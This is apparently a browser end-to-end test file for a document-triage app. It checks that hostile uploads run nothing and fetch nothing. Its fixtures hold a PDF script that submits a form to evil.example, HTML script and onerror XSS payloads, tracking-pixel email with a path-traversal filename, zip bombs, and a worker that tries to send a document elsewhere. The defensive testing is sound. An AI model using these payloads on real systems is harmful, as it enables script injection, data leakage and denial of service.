/** Files that mean harm, in a real browser: nothing in them runs, nothing is fetched, each is told in clear words. */
import { strToU8, zipSync } from 'fflate';
import type { TriageSession } from '../../../src/app/session/triage-session.ts';
import { expect, test } from '../fake-worker.ts';
import { hostileDocuments } from '../../fixtures/import/hostile-documents.ts';
import { makePdf } from './make-pdf.ts';
import { watchPrivacy } from './privacy-watch.ts';
import { addFiles, ask, file, openTriage, problems, rows, status } from './triage-page.ts';
import { FULL } from '../../tier.ts';

test.use({ serviceWorkers: 'block' });

/** 世界上最冷的城市 */
const BIG5 = [0xa5, 0x40, 0xac, 0xc9, 0xa4, 0x57, 0xb3, 0xcc, 0xa7, 0x4e, 0xaa, 0xba, 0xab, 0xb0, 0xa5, 0xab];
const CONTENT_TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const RELATIONSHIPS =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
const docx = (text: string) =>
  Buffer.from(
    zipSync({
      '[Content_Types].xml': strToU8(CONTENT_TYPES),
      '_rels/.rels': strToU8(RELATIONSHIPS),
      'word/document.xml': strToU8(
        `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
      ),
      'word/media/bomb.png': [new Uint8Array(16 * 2 ** 20), { level: 9 }],
    }),
  );
const manyEntries = () => {
  const entries: Record<string, Uint8Array> = {};
  for (let n = 0; n < 10_000; n++) entries[`${'d/'.repeat(n % 100)}${n}.txt`] = new Uint8Array(0);
  return Buffer.from(zipSync(entries));
};

test('hostile files run nothing, fetch nothing, and are told in clear words', async ({ page, baseURL }) => {
  const privacy = await watchPrivacy(page, baseURL ?? '');
  page.on('dialog', (dialog) => {
    throw new Error(`something ran: ${dialog.message()}`);
  });
  await openTriage(page);
  await addFiles(
    page,
    file(
      'script.pdf',
      makePdf(
        [{ text: 'The coldest page of all.' }],
        'app.alert("ran"); this.submitForm("http://evil.example/");',
      ),
    ),
    file('scan.pdf', makePdf([{}, {}])),
    file('half.pdf', makePdf([{ text: 'A page with text.' }, {}])),
    file('big5.pdf', makePdf([{ big5: BIG5 }])),
    file('broken.pdf', '%PDF-1.7\nnothing of the kind'),
    file('letter.docx', docx('The coldest letter of all.')),
    file(
      'page.html',
      '<!doctype html><title>x</title><script>alert("ran")</script><img src="http://evil.example/a.png" onerror="alert(1)"><link rel="stylesheet" href="http://evil.example/a.css"><p>The coldest web page.</p>',
    ),
    file(
      'mail.eml',
      'From: a@b.c\r\nSubject: Mail\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/pixel.gif">The coldest mail.\r\n--o\r\nContent-Type: message/rfc822\r\n\r\nFrom: x@y.z\r\nSubject: Inner\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n\r\nInner.\r\n--i\r\nContent-Disposition: attachment; filename="../../../etc/evil.txt"\r\n\r\nThe coldest attachment.\r\n--i--\r\n--o--\r\n',
    ),
    file('bomb.zip', Buffer.from(zipSync({ 'bomb.txt': [new Uint8Array(64 * 2 ** 20), { level: 9 }] }))),
    file('empty.txt', ''),
    file('photo.txt', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])),
    file('many.zip', manyEntries()),
  );
  const told = await problems(page);
  expect(told['scan.pdf']).toBe(
    'Its 2 pages have no text layer: this is probably a scan. Run it through text recognition (OCR) and add it again.',
  );
  expect(told['half.pdf']).toBe('No text layer, probably scanned: page 2.');
  expect(told['broken.pdf']).toBe('This PDF is damaged and cannot be read.');
  expect(told['bomb.zip/bomb.txt']).toMatch(/It would unpack to 64 MB from almost nothing/);
  expect(told['many.zip']).toBe('Holds 10,000 files; only the first 5,000 were read.');
  expect(told['empty.txt']).toBe('This file is empty: it has 0 bytes.');
  expect(told['photo.txt']).toMatch(/^This is a picture/);
  expect(Object.keys(told).filter((path) => /^(script|big5|letter|page|mail)/.test(path))).toEqual([]);
  expect(await page.evaluate(() => document.querySelectorAll('img, iframe, script[src*=evil]').length)).toBe(
    0,
  );
  await privacy.expectNothingLeft();
});

test('hostile documents of every format run nothing, fetch nothing, and end in a sentence', async ({
  page,
  baseURL,
}) => {
  const privacy = await watchPrivacy(page, baseURL ?? '');
  page.on('dialog', (dialog) => {
    throw new Error(`something ran: ${dialog.message()}`);
  });
  await openTriage(page);
  const documents = hostileDocuments();
  await addFiles(page, ...documents.map(({ name, content }) => file(name, Buffer.from(content))));
  const told = Object.entries(await problems(page));
  for (const { name, told: sentence } of documents) {
    const notes = told.filter(([path]) => path === name || path.startsWith(`${name}/`));
    expect(notes.map(([, note]) => note).join(' '), name).toMatch(sentence);
  }
  const texts = await page.evaluate(() => {
    const app = document.querySelector('rank1-triage-app') as unknown as { session: TriageSession };
    return app.session.files.map(({ path, passages }) => [path, passages.map(({ text }) => text).join('')]);
  });
  const read = Object.fromEntries(texts) as Record<string, string>;
  for (const { name, text } of documents) expect(read[name] ?? '', name).toBe(text);
  await privacy.expectNothingLeft();
});

test(
  'rich text of 200 MB is read as far as the limits go, or passed over where it is a picture',
  FULL,
  async ({ page }) => {
    await openTriage(page);
    // Made in the page: it is too large to be handed over by the test.
    await page.evaluate(() => {
      const megabyte = (text: string) => text.repeat(Math.ceil(2 ** 20 / text.length));
      const words = Array.from({ length: 200 }, () => megabyte('A sentence about the harbour. '));
      const digits = Array.from({ length: 200 }, () => megabyte('89504e470d0a1a0a'));
      const transfer = new DataTransfer();
      transfer.items.add(new File(['{\\rtf1 ', ...words, '}'], 'words.rtf'));
      transfer.items.add(
        new File(['{\\rtf1 Before.{\\pict\\pngblip ', ...digits, '} After.}'], 'picture.rtf'),
      );
      const input = document.querySelector<HTMLInputElement>('rank1-documents-panel input[type=file]');
      if (!input) throw new Error('no input');
      input.files = transfer.files;
      input.dispatchEvent(new Event('change'));
    });
    await expect(page.locator('.drop-title')).toContainText('2 files', { timeout: 0 });
    await expect(page.getByRole('button', { name: 'Cancel' })).toHaveCount(0, { timeout: 0 });
    const told = await problems(page);
    expect(told['words.rtf']).toBe(
      'Only its first 20,000 passages were read. Split the file to read the rest.',
    );
    expect(told['picture.rtf']).toBe('1 picture in it was not looked at for text.');
  },
);

test('a PDF whose Chinese font is not in it is read by a character map of our own', async ({
  page,
  fakeWorker,
}) => {
  const maps: string[] = [];
  page.context().on('request', (request) => {
    if (request.url().includes('/pdf-cmaps/')) maps.push(request.url());
  });
  await openTriage(page);
  await fakeWorker.send({ type: 'steady', stepMs: 1 });
  await addFiles(page, file('big5.pdf', makePdf([{ big5: BIG5 }])));
  await ask(page, '城市');
  await expect(rows(page).locator('.review-passage')).toHaveText('世界上最冷的城市');
  expect(maps.map((url) => url.split('/').at(-1))).toContain('ETen-B5-H.bcmap');
});

test(
  'a text of 200 MB is refused unread, and the page answers all the while',
  FULL,
  async ({ page, fakeWorker }) => {
    await openTriage(page);
    await fakeWorker.send({ type: 'steady', stepMs: 1 });
    // Made in the page: it is too large to be handed over by the test.
    await page.evaluate(() => {
      const line = 'The same line of text again and again, to the number of many megabytes.\n'.repeat(14_000);
      const huge = new File(
        Array.from({ length: 200 }, () => line),
        'huge.txt',
      );
      const large = new File(
        Array.from({ length: 30 }, (_, n) => line + n),
        'large.txt',
      );
      const transfer = new DataTransfer();
      transfer.items.add(huge);
      transfer.items.add(large);
      const input = document.querySelector<HTMLInputElement>('rank1-documents-panel input[type=file]');
      if (!input) throw new Error('no input');
      input.files = transfer.files;
      const gaps: number[] = [];
      Object.assign(window, { gaps });
      let last = performance.now();
      const onFrame = (now: number): void => {
        if (document.querySelector('.import-progress')) gaps.push(now - last);
        last = now;
        requestAnimationFrame(onFrame);
      };
      requestAnimationFrame(onFrame);
      input.dispatchEvent(new Event('change'));
    });
    // The second file takes a while; meanwhile the page takes a question.
    await expect(page.locator('.import-status')).toContainText('Reading file 2 of 2');
    await page.getByLabel('Question', { exact: true }).fill('Which line?');
    await expect(page.getByLabel('Question', { exact: true })).toHaveValue('Which line?');
    const gaps = () => page.evaluate(() => (window as unknown as { gaps: number[] }).gaps);
    await expect.poll(async () => (await gaps()).length).toBeGreaterThan(10);
    await page.getByRole('button', { name: 'Cancel' }).click();
    await expect(page.getByRole('button', { name: 'Cancel' })).toHaveCount(0);
    const longest = Math.max(...(await gaps())).toFixed(1);
    test
      .info()
      .annotations.push({ type: 'frames', description: `longest while files are read: ${longest} ms` });
    const told = await problems(page);
    expect(told['huge.txt']).toMatch(/^At \d+ MB it is too large: text files are read up to 64 MB/);
    // A worker that was ended in the middle is replaced.
    await addFiles(page, file('after.txt', 'Read after all.'));
    await expect(page.locator('.drop-title')).toContainText('1 file · 1 passage');
  },
);

test('a reader that hangs is ended, its file is told as not read, and the next is read', async ({ page }) => {
  // The first worker hangs; the one that is started for the next file does not.
  let isHanging = true;
  await page.route(/import\.worker[^/]*\.js/, (route) => {
    if (!isHanging) return route.continue();
    isHanging = false;
    return route.fulfill({
      contentType: 'text/javascript',
      headers: { 'Cross-Origin-Embedder-Policy': 'require-corp' },
      body: 'onmessage = () => { for (;;); };',
    });
  });
  await page.clock.install();
  await openTriage(page);
  await page
    .getByLabel('Add files')
    .setInputFiles([file('hangs.pdf', 'x'), file('after.txt', 'Read after all.')]);
  await expect(page.locator('.import-status')).toContainText('Reading file 1 of 2');
  // In steps: a worker's silence is counted, not read off a clock.
  for (let minute = 0; minute < 6; minute++) await page.clock.runFor(60_000);
  await expect(page.locator('.drop-title')).toContainText('1 passage');
  const told = await problems(page);
  expect(told['hangs.pdf']).toBe('It was given up after 5 minutes. Split it, or save it in another format.');
  expect(Object.keys(told)).toEqual(['hangs.pdf']);
});

test('a chain and a passage that hold markup show markup', async ({ page, fakeWorker, baseURL }) => {
  const privacy = await watchPrivacy(page, baseURL ?? '');
  await openTriage(page);
  await fakeWorker.send({ type: 'steady', stepMs: 1 });
  const markup = 'coldest <img src=http://evil.example/x.png onerror=alert(1)> <b>city</b> </think> true';
  await addFiles(page, file('<b>bold</b>.txt', markup));
  await ask(page, 'coldest?');
  await expect(status(page)).toContainText('1 of 1 judged');
  await rows(page).first().focus();
  await page.keyboard.press('r');
  await expect(rows(page).first().locator('rank1-think-chain')).toContainText(
    'coldest <img src=http://evil.example/x.png',
  );
  await expect(rows(page).first().locator('.review-passage')).toHaveText(markup);
  await expect(rows(page).first().locator('h3')).toContainText('<b>bold</b>.txt');
  await expect(rows(page).first().locator('img, b')).toHaveCount(0);
  await privacy.expectNothingLeft();
});

test('a worker of the page is under its policy: it cannot connect elsewhere, and the page says that it tried', async ({
  page,
  baseURL,
  uncaught,
}) => {
  const foreign: string[] = [];
  page.context().on('request', (request) => {
    if (!request.url().startsWith(baseURL ?? '') && request.url().startsWith('http'))
      foreign.push(request.url());
  });
  await page.route(/import\.worker[^/]*\.js/, (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'Cross-Origin-Embedder-Policy': 'require-corp' },
      body: 'onmessage = () => void fetch("https://elsewhere.example/?document");',
    }),
  );
  await openTriage(page);
  await page.getByLabel('Add files').setInputFiles(file('a.txt', 'Secret.'));
  await expect(page.locator('.network-state > summary')).toHaveText('A request was refused');
  await page.locator('.network-state > summary').click();
  await expect(page.locator('.network-state .refused')).toContainText('https://elsewhere.example');
  expect(foreign).toEqual([]);
  expect(uncaught.splice(0).join()).toContain('Failed to fetch');
});
